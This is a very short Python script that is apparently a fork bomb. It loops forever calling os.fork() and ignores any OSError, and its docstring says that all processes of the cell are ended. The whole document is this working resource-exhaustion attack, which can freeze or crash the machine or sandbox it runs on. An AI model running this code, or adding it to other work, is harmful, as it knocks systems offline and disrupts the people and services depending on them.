"""Fork without end. All processes of the cell are ended."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
